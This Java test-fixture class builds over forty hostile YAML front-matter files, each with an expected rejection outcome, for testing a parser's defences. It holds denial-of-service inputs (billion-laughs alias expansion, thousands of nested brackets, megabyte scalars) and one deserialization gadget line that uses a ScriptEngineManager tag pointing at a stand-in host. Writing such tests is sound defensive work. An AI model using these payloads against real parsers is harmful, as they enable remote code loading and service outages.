package dev.framewise.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Front matters that make YAML libraries build what they should not, slow them or
 * overflow their stack, and bytes that are no text at all.
 */
final class HostileFrontMatter {

	private static final String KEYS = "title: T\nsummary: S\npublished: 2026-01-01\nauthor: ed\n";

	private final List<HostileFile> files = new ArrayList<>();

	private HostileFrontMatter() {
	}

	/**
	 * More than forty files.
	 */
	static List<HostileFile> files() {
		HostileFrontMatter yaml = new HostileFrontMatter();
		yaml.references();
		yaml.types();
		yaml.depth();
		yaml.size();
		yaml.ends();
		yaml.characters();
		yaml.values();
		return List.copyOf(yaml.files);
	}

	private void references() {
		keys("billion-laughs", "yaml",
				"a: &a [x, x]\n" + IntStream.range(0, 20)
					.mapToObj((i) -> "b%d: &b%d [*%s, *%s]\n".formatted(i, i, (i == 0) ? "a" : "b" + (i - 1),
							(i == 0) ? "a" : "b" + (i - 1)))
					.collect(Collectors.joining()));
		keys("eleven-aliases", "yaml", "tags: [&a x" + ", *a".repeat(11) + "]\n");
		keys("two-aliases", HostileFile.PUBLISHED, "tags: [&a x, &b y]\naliases: [*a, *b]\n");
		keys("an-unknown-alias", "yaml", "tags: *nothing\n");
		keys("a-list-in-itself", "bad-value", "tags: &a [*a]\n");
		keys("a-map-in-itself", "unknown-key", "x: &a {a: *a}\n");
		keys("a-merge", "unknown-key", "<<: {title: U}\n");
		keys("a-merge-of-itself", "unknown-key", "x: &a\n  <<: *a\n");
		keys("an-anchor-twice", HostileFile.PUBLISHED, "tags: [&a v, &a w]\naliases: [*a]\n");
	}

	private void types() {
		keys("a-java-type", "yaml", "x: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x.example/\"]]\n");
		keys("a-local-tag", "yaml", "tags: !x [a]\n");
		keys("a-global-tag", "yaml", "tags: !<tag:yaml.org,2002:set> {a}\n");
		keys("binary", "yaml", "x: !!binary aGVsbG8=\n");
		keys("a-tag-directive", "yaml", "%TAG ! tag:x.example,2026:\n");
		yaml("a-yaml-directive", "yaml", "%YAML 1.1\n---\n" + KEYS);
		keys("a-key-twice", "yaml", "title: U\n");
		keys("a-quoted-key-twice", "yaml", "\"title\": U\n");
		keys("a-list-for-a-key", "yaml", "? [a, b]\n: c\n");
		keys("a-map-for-a-key", "yaml", "{a: b}: c\n");
		keys("no-key", "unknown-key", "? \n: c\n");
		keys("numbers-for-keys", "unknown-key", "1: a\n1.0: b\ntrue: c\n~: d\n");
	}

	private void depth() {
		keys("lists-in-one-line", "yaml", "x: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n");
		keys("lists-unclosed", "yaml", "x: " + "[".repeat(15_000) + "\n");
		keys("maps-in-one-line", "yaml", "x: " + "{a: ".repeat(3_000) + "}".repeat(3_000) + "\n");
		keys("lists-in-lists", "yaml", "x:\n  " + "- ".repeat(6_000) + "a\n");
		keys("questions", "yaml", "? ".repeat(6_000) + "a\n");
		keys("stair", "yaml",
				IntStream.range(0, 150).mapToObj((i) -> " ".repeat(i) + "a:\n").collect(Collectors.joining()));
	}

	private void size() {
		keys("a-large-scalar", "limit", "x: " + "a".repeat(200_000) + "\n");
		keys("a-large-quoted-scalar", "limit", "x: \"" + "\\u0041".repeat(35_000) + "\"\n");
		keys("a-large-block", "limit", "x: |\n" + "  a\n".repeat(50_000));
		keys("ten-thousand-keys", "limit",
				IntStream.range(0, 10_000).mapToObj((i) -> "key%d: a\n".formatted(i)).collect(Collectors.joining()));
		keys("a-thousand-keys", "unknown-key",
				IntStream.range(0, 1_000).mapToObj((i) -> "key%d: a\n".formatted(i)).collect(Collectors.joining()));
		keys("comments", "limit", "# a\n".repeat(50_000));
		keys("a-thousand-tags", HostileFile.PUBLISHED,
				IntStream.range(0, 1_000).mapToObj((i) -> "t" + i).collect(Collectors.joining(", ", "tags: [", "]\n")));
		file("a-megabyte", "limit", bytes("---\n" + KEYS + "x: " + "a".repeat(1 << 20) + "\n---\n"));
	}

	private void ends() {
		file("unclosed", "front-matter", bytes("---\n" + KEYS + "x: y\n".repeat(10_000)));
		file("absent", "front-matter", bytes("# Text\n"));
		file("nothing", "front-matter", new byte[0]);
		file("a-line-before", "front-matter", bytes("\n---\n" + KEYS + "---\n"));
		yaml("empty", "missing-key", "");
		keys("an-unclosed-quote", "yaml", "x: \"a\n");
		keys("two-documents", "yaml", "...\ntitle: U\n");
		keys("tabs", "yaml", "related:\n\t- a\n");
		yaml("a-scalar", "yaml", "just words\n");
		yaml("a-list", "yaml", "- a\n- b\n");
	}

	private void characters() {
		keys("nul", "unreadable", "x: a\0b\n");
		keys("an-escaped-nul", "bad-value", "tags: [\"a\\0b\"]\n");
		file("invalid-utf-8", "unreadable", join(bytes("---\n" + KEYS + "x: "), (byte) 0xc3, (byte) 0x28));
		file("an-overlong-slash", "unreadable", join(bytes("---\n" + KEYS + "x: "), (byte) 0xc0, (byte) 0xaf));
		file("a-surrogate", "unreadable", join(bytes("---\n" + KEYS + "x: "), (byte) 0xed, (byte) 0xa0, (byte) 0x80));
		file("utf-16", "unreadable", ("---\n" + KEYS + "---\n").getBytes(StandardCharsets.UTF_16));
		file("cut-off", "unreadable", join(bytes("---\n" + KEYS + "x: "), (byte) 0xf0, (byte) 0x9f));
		keys("controls", "yaml", "x: a\u0001b\n");
		keys("odd-line-ends", "front-matter", "x: a\u0085y: b\u2028z: c\n\u000b");
		file("old-line-ends", "front-matter", bytes(("---\n" + KEYS + "---\n").replace('\n', '\r')));
		file("two-marks", "front-matter", bytes("\ufeff\ufeff---\n" + KEYS + "---\n"));
	}

	private void values() {
		keys("a-huge-number", "bad-value", "updated: " + "9".repeat(5_000) + "\n");
		keys("a-moment", "bad-value", "updated: 2026-01-01T00:00:00Z\n");
		keys("a-day-that-is-none", "bad-value", "updated: 2026-02-30\n");
		keys("infinity", "bad-value", "draft: .inf\n");
		keys("sixty-based", "bad-value", "updated: 190:20:30\n");
		keys("norway", "bad-value", "draft: no\n");
	}

	private void keys(String name, String outcome, String more) {
		yaml(name, outcome, KEYS + more);
	}

	private void yaml(String name, String outcome, String yaml) {
		file(name, outcome, bytes("---\n" + yaml + "---\n\nText.\n"));
	}

	private void file(String name, String outcome, byte[] bytes) {
		this.files.add(new HostileFile("yaml-" + name, outcome, bytes));
	}

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] join(byte[] text, byte... more) {
		ByteArrayOutputStream all = new ByteArrayOutputStream();
		all.writeBytes(text);
		all.writeBytes(more);
		all.writeBytes(bytes("\n---\n\nText.\n"));
		return all.toByteArray();
	}

}
